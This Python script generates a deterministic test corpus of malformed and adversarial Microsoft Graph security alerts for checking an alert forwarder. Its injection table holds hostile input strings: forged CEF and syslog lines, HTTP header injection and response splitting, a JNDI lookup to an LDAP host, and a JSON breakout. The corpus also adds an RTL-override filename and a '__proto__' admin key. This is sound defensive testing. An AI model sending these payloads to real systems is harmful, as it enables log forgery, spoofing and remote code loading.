r"""Generate `hostile_alerts.ndjson`: malformed and adversarial Graph alerts_v2 alerts.

    python -m tests.reliability.make_hostile_corpus        # rewrites the two files below

Deterministic: every base alert comes from `tests.peers.alert_factory` with a fixed seed,
and every mutation is a fixed table entry, so the same code always writes the same bytes
(`test_hostile_input.py` checks that the checked-in files are current).

Files (both checked in, line N of one describes line N of the other):

- `hostile_alerts.ndjson`: one JSON text per line, exactly what the replay page will hold
  at that position of its `value` array. Not every line is an object (a string, a number,
  null, a list are cases too). Lines are written with ASCII-only escapes, so lone
  surrogates (`\ud800`), NUL (`\u0000`), C1 controls and U+2028 appear as JSON escapes;
  a few lines are hand-written JSON text (odd but valid escapes such as `\/`, `\u0041`,
  upper-case hex, duplicate keys, numbers beyond 64 bits or beyond a double) so that the
  forwarder sees exactly that text.
- `hostile_alerts.cases.ndjson`: one object per line, `{"case": N, "category": ...,
  "name": ..., "expect": "forward" | "dead" | "either"}`. The tag lives here rather than
  in the alert (a tag key would change the alert). Where the alert has a string id it
  also starts with `hx-NNN-` (NNN = case number) unless the case is about the id itself,
  so an output line can be traced to its case by eye. `expect` is informational: the
  acceptance rule is only "forwarded intact in every format, or dead-lettered with a
  reason".

Large values (10 MB fields) are not checked in: a string value of the exact form
`<<hx-expand N CHUNK>>` stands for CHUNK repeated to N characters, and `expand(value)`
(used by the test) replaces every such marker in a parsed line. Only the lines with a
marker are re-serialised after expansion.
"""
from __future__ import annotations

import json
import random
import re
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from tests.peers.alert_factory import make_alert

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "hostile_alerts.ndjson"
CASES = HERE / "hostile_alerts.cases.ndjson"

TENANT = "77777777-7777-4777-8777-777777777777"
T0 = datetime(2026, 11, 20, 8, 0, tzinfo=UTC)
NS = "#microsoft.graph.security."
TEN_MB = 10 * 1024 * 1024

_MARKER = re.compile(r"^<<hx-expand (\d+) (.+)>>$", re.DOTALL)


def marker(length: int, chunk: str) -> str:
    return f"<<hx-expand {length} {chunk}>>"


def expand(value: Any) -> Any:
    """`value` with every `<<hx-expand N CHUNK>>` string replaced by CHUNK repeated to N chars."""
    if isinstance(value, str):
        match = _MARKER.match(value)
        if match is None:
            return value
        length, chunk = int(match.group(1)), match.group(2)
        return (chunk * (length // len(chunk) + 1))[:length]
    if isinstance(value, list):
        return [expand(item) for item in value]
    if isinstance(value, dict):
        return {expand(key): expand(item) for key, item in value.items()}
    return value


def has_marker(text: str) -> bool:
    return "<<hx-expand " in text


# --------------------------------------------------------------------------- building blocks

class Corpus:
    def __init__(self) -> None:
        self.rng = random.Random("hostile-corpus/1")
        self.lines: list[str] = []
        self.cases: list[dict[str, Any]] = []

    @property
    def next_number(self) -> int:
        return len(self.lines) + 1

    def tag(self, category: str) -> str:
        return f"hx-{self.next_number:03d}-{category}"

    def base(self, category: str, minutes: int | None = None) -> dict[str, Any]:
        """A realistic alert with a tagged id and a unique lastUpdateDateTime."""
        number = self.next_number
        moment = T0 + timedelta(minutes=minutes if minutes is not None else number)
        alert = make_alert(self.rng, TENANT, moment, service_source="microsoftDefenderForEndpoint")
        alert["id"] = self.tag(category)
        return alert

    def add(self, category: str, name: str, value: Any, expect: str = "either", text: str | None = None) -> None:
        line = text if text is not None else json.dumps(value, ensure_ascii=True, separators=(",", ":"))
        assert "\n" not in line and "\r" not in line
        json.loads(line)  # every line is one JSON text (Python's reading of it)
        self.lines.append(line)
        self.cases.append({"case": len(self.lines), "category": category, "name": name, "expect": expect})

    def mutate(self, category: str, name: str, change: Callable[[dict[str, Any]], Any], expect: str = "either") -> None:
        alert = self.base(category)
        result = change(alert)
        self.add(category, name, alert if result is None else result, expect)


def _evidence(kind: str, **props: Any) -> dict[str, Any]:
    return {"@odata.type": NS + kind, "createdDateTime": "2026-11-20T08:00:00.0000000Z", "verdict": "suspicious",
            "remediationStatus": "none", "roles": [], "tags": [], **props}


def _device(fqdn: str) -> dict[str, Any]:
    return _evidence("deviceEvidence", deviceDnsName=fqdn, hostName=fqdn.split(".")[0] or "h",
                     mdeDeviceId="a" * 40, osPlatform="Windows11", lastIpAddress="10.0.0.5")


def _user(upn: str) -> dict[str, Any]:
    return _evidence("userEvidence", userAccount={"accountName": "u", "domainName": "D", "userPrincipalName": upn,
                                                  "azureAdUserId": "0" * 8, "userSid": "S-1-5-21-1"})


def _file(name: str, path: str, sha1: str = "b" * 40, sha256: str = "c" * 64) -> dict[str, Any]:
    return _evidence("fileEvidence", detectionStatus="detected",
                     fileDetails={"fileName": name, "filePath": path, "sha1": sha1, "sha256": sha256,
                                  "fileSize": 10})


def _nest(depth: int, leaf: Any = "bottom", as_list: bool = False) -> Any:
    value = leaf
    for _ in range(depth):
        value = [value] if as_list else {"n": value}
    return value


# --------------------------------------------------------------------------- the corpus

INJECTIONS = {
    "cef-newline": "x\r\nCEF:0|Evil|Forged|1|1|forged alert|10|src=203.0.113.66 act=allow",
    "cef-lf-only": "x\nCEF:0|Evil|Forged|1|1|forged|10|",
    "syslog-rfc5424": "x\n<13>1 2026-11-20T08:00:00Z evil.test forged - - - forged message",
    "syslog-rfc3164": "x\r<34>Nov 20 08:00:00 evil forged[1]: su root failed",
    "http-header": "x\r\nBcc: victim@evil.test\r\nX-Injected: 1",
    "http-response-split": "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
    "cef-separators": "a|b|c\\|d=e\\=f\\\\g=",
    "cef-trailing-backslash": "ends with a backslash\\",
    "cef-key-forgery": "x dst=203.0.113.9 suser=admin act=allow",
    "ansi-escape": "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "json-breakout": "\"},{\"id\":\"forged\",\"x\":\"",
    "jndi": "${jndi:ldap://203.0.113.1/a}",
    "null-byte-cut": "visible\x00hidden after NUL",
    "only-spaces": "   ",
    "leading-trailing-space": "  padded value  ",
    "pipe-only": "|",
    "equals-only": "=",
    "backslash-only": "\\",
}

CONTROLS = {
    "nul": "a\u0000b",
    "c0-all": "".join(chr(c) for c in range(0x20)),
    "del": "a\u007fb",
    "c1-all": "".join(chr(c) for c in range(0x80, 0xA0)),
    "line-separators": "a\u2028b\u2029c\u0085d",
    "bom": "\ufeffstarts with a BOM",
    "rtl-override": "invoice\u202egpj.exe",
    "zero-width": "adm\u200bin\u200d\u2060",
    "tab-vt-ff": "a\tb\u000bc\u000cd",
    "noncharacters": "\ufffe\uffff\U0010ffff\U0001f600",
}

SURROGATES = {
    "lone-high": "a\ud800b",
    "lone-low": "a\udc00b",
    "reversed-pair": "a\udc00\ud800b",
    "high-at-end": "end\udbff",
    "many-lone": "\ud800" * 50,
}

# Graph alert properties by JSON type (core/schema + mappings/graph_alerts_v2 ALERT table).
TEXT_FIELDS = ("providerAlertId", "severity", "title", "description", "recommendedActions", "category",
               "productName", "detectorId", "alertPolicyId", "alertWebUrl", "incidentWebUrl", "assignedTo",
               "actorDisplayName", "threatDisplayName", "threatFamilyName", "tenantId")
ENUM_FIELDS = ("status", "classification", "determination", "serviceSource", "detectionSource",
               "investigationState")
LIST_FIELDS = ("categories", "mitreTechniques", "systemTags")
OBJECT_FIELDS = ("customDetails", "additionalData")
TIME_FIELDS = ("createdDateTime", "lastUpdateDateTime", "firstActivityDateTime", "lastActivityDateTime",
               "resolvedDateTime")
# Alert fields that reach a CEF header or extension key (mappings/cef.py).
CEF_FIELDS = ("title", "description", "category", "detectorId", "alertPolicyId", "productName", "serviceSource",
              "detectionSource", "status", "alertWebUrl", "incidentWebUrl", "incidentId", "severity",
              "threatDisplayName", "assignedTo", "providerAlertId")


def build() -> Corpus:
    sys.setrecursionlimit(max(sys.getrecursionlimit(), 10_000))  # the 1,010-level cases
    c = Corpus()

    # ---- not an object at all
    for name, value in (("string", "not an alert"), ("number", 42), ("null", None), ("true", True),
                        ("empty-list", []), ("list-of-alert", [{"id": "hx-in-a-list"}]), ("empty-object", {}),
                        ("float", -0.0), ("empty-string", "")):
        c.add("non-object", name, value, "dead")

    # ---- missing / wrong ids
    def without(key: str) -> Callable[[dict[str, Any]], None]:
        return lambda a: a.pop(key)

    c.mutate("missing-id", "no id", without("id"), "dead")
    for name, value in (("null", None), ("empty", ""), ("int", 12345), ("bool-true", True), ("bool-false", False),
                        ("float", 1.5), ("list", ["hx-id"]), ("object", {"id": "hx"}), ("big-int", 2**70)):
        c.mutate("missing-id", f"id {name}", lambda a, v=value: a.__setitem__("id", v), "dead")
    for name, value in (("only-spaces", "   "), ("only-nul", "\u0000"), ("only-lone-surrogate", "\ud800"),
                        ("only-bom", "\ufeff"), ("only-pipe", "|"), ("crlf", "\r\n")):
        c.mutate("weird-id", f"id {name}", lambda a, v=value: a.__setitem__("id", v))
    for name, payload in (("injection", INJECTIONS["cef-newline"]), ("nul", "\u0000x"), ("surrogate", "\ud800"),
                          ("separators", "|=\\"), ("rtl", "\u202e"), ("unicode", "é中文🚀"),
                          ("http", INJECTIONS["http-header"])):
        c.mutate("weird-id", f"tagged id + {name}", lambda a, p=payload: a.__setitem__("id", a["id"] + p))

    # ---- timestamps
    for name, value in (("missing", ...), ("null", None), ("empty", ""), ("garbage", "not a date"),
                        ("month-13", "2026-13-45T25:61:61Z"), ("epoch-int", 1700000000), ("bool", True),
                        ("object", {"dateTime": "2026-11-20T08:00:00Z"}), ("lone-surrogate", "2026-11-20\ud800"),
                        ("nul-inside", "2026-11-20T08:00:00\u0000Z"), ("year-overflow-offset",
                                                                      "9999-12-31T23:59:59.9999999-14:00"),
                        ("too-many-fraction", "2026-11-20T08:00:00.12345678901234567890Z")):
        def set_time(a: dict[str, Any], v: Any = value) -> None:
            if v is ...:
                del a["lastUpdateDateTime"]
            else:
                a["lastUpdateDateTime"] = v
        c.mutate("timestamp", f"lastUpdateDateTime {name}", set_time)
    for name, value in (("offset+14", "2026-11-21T08:00:00.1234567+14:00"), ("no-zone", "2026-11-21T08:01:00"),
                        ("date-only", "2026-11-21"), ("far-future", "9999-12-31T23:59:59.9999999Z"),
                        ("lowercase-z", "2026-11-21t08:02:00z"), ("space-separator", "2026-11-21 08:03:00Z")):
        c.mutate("timestamp", f"lastUpdateDateTime valid-but-odd {name}",
                 lambda a, v=value: a.__setitem__("lastUpdateDateTime", v))
    for field in TIME_FIELDS:
        if field != "lastUpdateDateTime":
            c.mutate("timestamp", f"{field} garbled", lambda a, f=field: a.__setitem__(f, "20261120T08:00"))
    c.mutate("timestamp", "comment createdDateTime garbled",
             lambda a: a.__setitem__("comments", [{"comment": "c", "createdBy": "x", "createdDateTime": "nope"}]))
    c.mutate("timestamp", "evidence createdDateTime int",
             lambda a: a["evidence"].append(_evidence("ipEvidence", ipAddress="10.0.0.1", createdDateTime=0)))

    # ---- wrong types for every typed alert property
    wrong = (("number", 7), ("object", {"v": "x"}), ("list", ["x"]), ("bool", True))
    for index, field in enumerate(TEXT_FIELDS + ENUM_FIELDS):
        for kind, value in (wrong[index % 4], wrong[(index + 1) % 4]):
            c.mutate("wrong-type", f"{field} as {kind}", lambda a, f=field, v=value: a.__setitem__(f, v))
    for field in LIST_FIELDS:
        for kind, value in (("string", "T1059"), ("object", {"0": "x"}), ("list-with-int", ["ok", 3]),
                            ("list-with-null", [None]), ("list-of-lists", [["x"]])):
            c.mutate("wrong-type", f"{field} as {kind}", lambda a, f=field, v=value: a.__setitem__(f, v))
    for field in OBJECT_FIELDS:
        for kind, value in (("list", [{"k": "v"}]), ("string", "{}"), ("number", 0)):
            c.mutate("wrong-type", f"{field} as {kind}", lambda a, f=field, v=value: a.__setitem__(f, v))
    for kind, value in (("object", {"0": {}}), ("string", "[]"), ("list-of-strings", ["evidence"]),
                        ("list-with-null", [None]), ("number", 1)):
        c.mutate("wrong-type", f"evidence as {kind}", lambda a, v=value: a.__setitem__("evidence", v))
    for kind, value in (("object", {"comment": "x"}), ("list-of-strings", ["x"]), ("bool", False)):
        c.mutate("wrong-type", f"comments as {kind}", lambda a, v=value: a.__setitem__("comments", v))
    for kind, value in (("bool", True), ("float", 3.5), ("object", {}), ("int-beyond-64-bits", 2**64 + 1),
                        ("negative", -1)):
        c.mutate("wrong-type", f"incidentId as {kind}", lambda a, v=value: a.__setitem__("incidentId", v))
    # evidence members of the wrong type
    for name, item in (
        ("device ipInterfaces object", _evidence("deviceEvidence", ipInterfaces={"a": "10.0.0.1"})),
        ("device riskScore list", _evidence("deviceEvidence", riskScore=["high"])),
        ("file fileDetails string", _evidence("fileEvidence", fileDetails="C:\\x.exe")),
        ("file fileSize string", _evidence("fileEvidence", fileDetails={"fileName": "x", "fileSize": "10"})),
        ("process processId string", _evidence("processEvidence", processId="4242")),
        ("process processId bool", _evidence("processEvidence", processId=False)),
        ("ip location latitude string", _evidence("ipEvidence", ipAddress="10.0.0.1",
                                                  location={"latitude": "47.6"})),
        ("user userAccount list", _evidence("userEvidence", userAccount=[{"accountName": "u"}])),
        ("verdict number", _evidence("urlEvidence", url="https://a.test", verdict=3)),
        ("roles string", _evidence("urlEvidence", url="https://a.test", roles="compromised")),
        ("cloud app appId bool", _evidence("cloudApplicationEvidence", appId=True)),
        ("mailbox userAccount string", _evidence("mailboxEvidence", userAccount="u@a.test")),
        ("message urls object", _evidence("analyzedMessageEvidence", urls={"u": "https://a.test"})),
        ("registry key number", _evidence("registryKeyEvidence", registryKey=12)),
    ):
        c.mutate("wrong-type", f"evidence {name}", lambda a, i=item: a["evidence"].append(i))

    # ---- huge numbers
    for name, value in (("2^64", 2**64), ("-2^63-1", -(2**63) - 1), ("2^200", 2**200), ("1e308", 1e308),
                        ("tiny", 5e-324), ("4000 digits", int("9" * 4000))):
        c.mutate("huge-number", f"additionalData number {name}",
                 lambda a, v=value: a.__setitem__("additionalData", {"n": v}))
    c.mutate("huge-number", "ip latitude 2^70",
             lambda a: a["evidence"].append(_evidence("ipEvidence", ipAddress="10.0.0.2",
                                                      location={"latitude": 2**70, "longitude": -(2**70)})))
    c.mutate("huge-number", "process id 2^64",
             lambda a: a["evidence"].append(_evidence("processEvidence", processId=2**64)))
    c.mutate("huge-number", "cloud app appId 2^80",
             lambda a: a["evidence"].append(_evidence("cloudApplicationEvidence", appId=2**80, displayName="x")))
    # Hand-written JSON text: numbers no double holds.
    for name, literal in (("1e400 in additionalData", "1e400"), ("-1e400 in additionalData", "-1e400"),
                          ("1e-400 in additionalData", "1e-400"), ("exponent 1E+2", "1E+2"),
                          ("negative zero", "-0"), ("long fraction", "0." + "1" * 400)):
        alert = c.base("huge-number")
        alert["additionalData"] = {"n": "@@N@@"}
        text = json.dumps(alert, ensure_ascii=True, separators=(",", ":")).replace('"@@N@@"', literal)
        c.add("huge-number", name, None, text=text)
    alert = c.base("huge-number")
    alert["evidence"].append(_evidence("ipEvidence", ipAddress="10.0.0.3", location={"latitude": "@@N@@"}))
    c.add("huge-number", "ip latitude 1e400",
          None, text=json.dumps(alert, ensure_ascii=True, separators=(",", ":")).replace('"@@N@@"', "1e400"))

    # ---- control characters, in text and in the CEF-mapped fields
    fields_cycle = ("title", "description", "category", "detectorId", "threatDisplayName", "assignedTo")
    for index, (name, value) in enumerate(CONTROLS.items()):
        field = fields_cycle[index % len(fields_cycle)]
        c.mutate("control-chars", f"{name} in {field}", lambda a, f=field, v=value: a.__setitem__(f, a["id"] + v))
        c.mutate("control-chars", f"{name} in evidence host/user/file",
                 lambda a, v=value: a["evidence"].extend([_device(f"h{v}.corp.test"), _user(f"u{v}@corp.test"),
                                                          _file(f"f{v}.exe", f"C:\\d{v}")]))
    c.mutate("control-chars", "control chars in keys",
             lambda a: a.__setitem__("additionalData", {k: k for k in CONTROLS.values()}))

    # ---- invalid UTF-16 / UTF-8 escapes
    for index, (name, value) in enumerate(SURROGATES.items()):
        field = ("title", "description", "category", "assignedTo", "productName")[index]
        c.mutate("bad-unicode", f"{name} in {field}", lambda a, f=field, v=value: a.__setitem__(f, v))
    c.mutate("bad-unicode", "lone surrogate in evidence hostname",
             lambda a: a["evidence"].append(_device("h\ud800.corp.test")))
    c.mutate("bad-unicode", "lone surrogate in a key of additionalData",
             lambda a: a.__setitem__("additionalData", {"k\udc00": "v"}))
    c.mutate("bad-unicode", "lone surrogate in an unknown top-level key",
             lambda a: a.__setitem__("x\ud800", 1))
    c.mutate("bad-unicode", "lone surrogate in @odata.type",
             lambda a: a["evidence"].append({"@odata.type": NS + "deviceEvidence\ud800", "x": 1}))
    c.mutate("bad-unicode", "lone surrogate in mitreTechniques",
             lambda a: a.__setitem__("mitreTechniques", ["T1059\udfff"]))
    c.mutate("bad-unicode", "lone surrogate in a comment", lambda a: a.__setitem__(
        "comments", [{"comment": "\ud800", "createdBy": "x", "createdDateTime": "2026-11-20T08:00:00Z"}]))
    # Hand-written JSON text: odd but valid escapes (the same alert spelt unusually).
    for name, old, new in (
        ("escaped solidus", "https://", "https:\\/\\/"),
        ("escaped ASCII letters", '"status":"', '"st\\u0061tus":"'),
        ("upper-case hex pair", '"title":"', '"title":"\\uD83D\\uDE00'),
        ("escaped NUL in a key", '"severity":', '"sev\\u0000erity":'),
        ("every short escape", '"description":"', '"description":"\\b\\f\\n\\r\\t\\"\\\\\\/'),
    ):
        alert = c.base("odd-escape")
        text = json.dumps(alert, ensure_ascii=True, separators=(",", ":"))
        assert old in text, name
        c.add("odd-escape", name, None, text=text.replace(old, new, 1))
    alert = c.base("odd-escape")
    text = json.dumps(alert, ensure_ascii=True, separators=(",", ":"))
    c.add("odd-escape", "duplicate keys (last wins)", None,
          text=text.replace('"title":', '"title":"first","title":', 1))
    alert = c.base("odd-escape")
    c.add("odd-escape", "raw (unescaped) non-ASCII UTF-8", None,
          text=json.dumps({**alert, "title": "Ünïcödé 中文 🚀 \u2028"}, ensure_ascii=False,
                          separators=(",", ":")).replace("\u2028", "\\u2028"))

    # ---- injection strings, in every CEF-mapped field
    for field in CEF_FIELDS:
        for name, value in INJECTIONS.items():
            if field in ("incidentId", "status", "serviceSource", "detectionSource", "severity") and \
                    name not in ("cef-newline", "cef-separators", "http-header", "syslog-rfc5424"):
                continue
            if field in ("title", "description", "category") or name in (
                    "cef-newline", "cef-separators", "http-header", "syslog-rfc5424", "cef-trailing-backslash"):
                c.mutate("injection", f"{name} in {field}", lambda a, f=field, v=value: a.__setitem__(f, v))
    for name in ("cef-newline", "cef-separators", "http-header", "only-spaces", "cef-key-forgery"):
        value = INJECTIONS[name]
        c.mutate("injection", f"{name} in evidence host/user/file/url/hash",
                 lambda a, v=value: a["evidence"][:0].extend([]) or a.__setitem__("evidence", [
                     _device(f"{v}.corp.test"), _user(v), _file(v, v, sha1=v, sha256=v),
                     _evidence("urlEvidence", url=v), _evidence("ipEvidence", ipAddress=v)] + a["evidence"]))
        c.mutate("injection", f"{name} in mitreTechniques/categories",
                 lambda a, v=value: a.update(mitreTechniques=[v, "T1059"], categories=[v]))
    c.mutate("injection", "shadowed tenant and forwarder keys",
             lambda a: a.update(tenant={"id": "forged", "label": "evil"}, forwarder="forged"))
    c.mutate("injection", "key names from CEF and ECS",
             lambda a: a.__setitem__("additionalData", {"cs1": "x", "act=allow": "y", "@timestamp": "z",
                                                        "": "empty key", "__proto__": {"admin": True}}))

    # ---- nesting
    for depth in (50, 200, 1010):
        c.mutate("deep-nesting", f"unknown evidence member {depth} objects deep",
                 lambda a, d=depth: a["evidence"].append({"@odata.type": NS + "malwareEvidence", "deep": _nest(d)}))
    for depth in (200, 1010):
        c.mutate("deep-nesting", f"device evidence extra {depth} lists deep",
                 lambda a, d=depth: a["evidence"].append({**_device("d.corp.test"), "deep": _nest(d, as_list=True)}))
        c.mutate("deep-nesting", f"additionalData {depth} objects deep",
                 lambda a, d=depth: a.__setitem__("additionalData", _nest(d)))
        c.mutate("deep-nesting", f"customDetails {depth} mixed deep",
                 lambda a, d=depth: a.__setitem__("customDetails", {"x": _nest(d // 2, _nest(d // 2 - 1),
                                                                                  as_list=True)}))
    c.mutate("deep-nesting", "malware evidence with nested file evidence 100 times",
             lambda a: a["evidence"].append(_nest_evidence(100)))
    c.mutate("deep-nesting", "1000 evidence items",
             lambda a: a.__setitem__("evidence", [_device(f"d{i}.corp.test") for i in range(1000)]))
    c.mutate("deep-nesting", "file evidence fileDetails with deep extra",
             lambda a: a["evidence"].append(_evidence("fileEvidence", fileDetails={"fileName": "x",
                                                                                   "extra": _nest(300)})))

    # ---- unknown / odd evidence types
    for name, odata in (("future type", NS + "quantumEvidence"), ("other namespace", "#microsoft.graph.user"),
                        ("no namespace", "deviceEvidence"), ("upper case known", (NS + "deviceEvidence").upper()),
                        ("empty", ""), ("null", None), ("number", 7), ("object", {"type": "x"}),
                        ("list", [NS + "deviceEvidence"]), ("injection", NS + "x\r\nCEF:0|a|b|c|d|e|1|"),
                        ("nul", NS + "device\u0000Evidence"), ("10 KB", NS + "x" * 10240)):
        c.mutate("unknown-evidence", f"@odata.type {name}",
                 lambda a, o=odata: a["evidence"].append({"@odata.type": o, "deviceDnsName": "x.test"}))
    c.mutate("unknown-evidence", "no @odata.type", lambda a: a["evidence"].append({"verdict": "malicious"}))
    c.mutate("unknown-evidence", "empty evidence object", lambda a: a["evidence"].append({}))
    c.mutate("unknown-evidence", "known type, every member unknown",
             lambda a: a["evidence"].append({"@odata.type": NS + "ipEvidence", "zz": [1, {"y": None}]}))
    c.mutate("unknown-evidence", "unknown type, known members of wrong type",
             lambda a: a["evidence"].append({"@odata.type": NS + "newEvidence", "verdict": 5, "roles": "x"}))

    # ---- empties and nulls
    c.mutate("empty", "every property null but id and lastUpdateDateTime",
             lambda a: {k: (v if k in ("id", "lastUpdateDateTime") else None) for k, v in a.items()})
    c.mutate("empty", "only id and lastUpdateDateTime",
             lambda a: {"id": a["id"], "lastUpdateDateTime": a["lastUpdateDateTime"]})
    c.mutate("empty", "every text property empty",
             lambda a: a.update({f: "" for f in TEXT_FIELDS + ENUM_FIELDS}))
    c.mutate("empty", "every list and object empty",
             lambda a: a.update({**{f: [] for f in LIST_FIELDS + ("evidence", "comments")},
                                 **{f: {} for f in OBJECT_FIELDS}}))
    c.mutate("empty", "evidence with every member null",
             lambda a: a.__setitem__("evidence", [{k: None for k in _device("x.test")} | {"@odata.type": NS
                                                                                          + "deviceEvidence"}]))
    c.mutate("empty", "empty strings in evidence",
             lambda a: a.__setitem__("evidence", [_device(""), _user(""), _file("", ""),
                                                  _evidence("ipEvidence", ipAddress="")]))

    # ---- 10 MB fields (markers, expanded by the test)
    c.mutate("huge-field", "10 MB description", lambda a: a.__setitem__("description", marker(TEN_MB, "AbC|=\\ ")))
    c.mutate("huge-field", "10 MB title with multibyte", lambda a: a.__setitem__("title", marker(TEN_MB, "é中🚀")))
    c.mutate("huge-field", "10 MB id suffix", lambda a: a.__setitem__("id", a["id"] + marker(TEN_MB, "i")))
    c.mutate("huge-field", "10 MB evidence hostname",
             lambda a: a["evidence"].append(_device(marker(TEN_MB, "h."))))
    c.mutate("huge-field", "10 MB unknown property with control chars",
             lambda a: a.__setitem__("additionalData", {"blob": marker(TEN_MB, "\u0000\r\n\u2028x")}))
    return c


def _nest_evidence(depth: int) -> dict[str, Any]:
    item: dict[str, Any] = _evidence("fileEvidence", fileDetails={"fileName": "leaf.exe"})
    for _ in range(depth):
        item = _evidence("malwareEvidence", name="m", files=[item])
    return item


def main() -> None:
    corpus = build()
    CORPUS.write_text("".join(line + "\n" for line in corpus.lines), encoding="utf-8")
    CASES.write_text("".join(json.dumps(case, separators=(",", ":")) + "\n" for case in corpus.cases),
                     encoding="utf-8")
    print(f"{len(corpus.lines)} cases -> {CORPUS.name}, {CASES.name}")


if __name__ == "__main__":
    main()
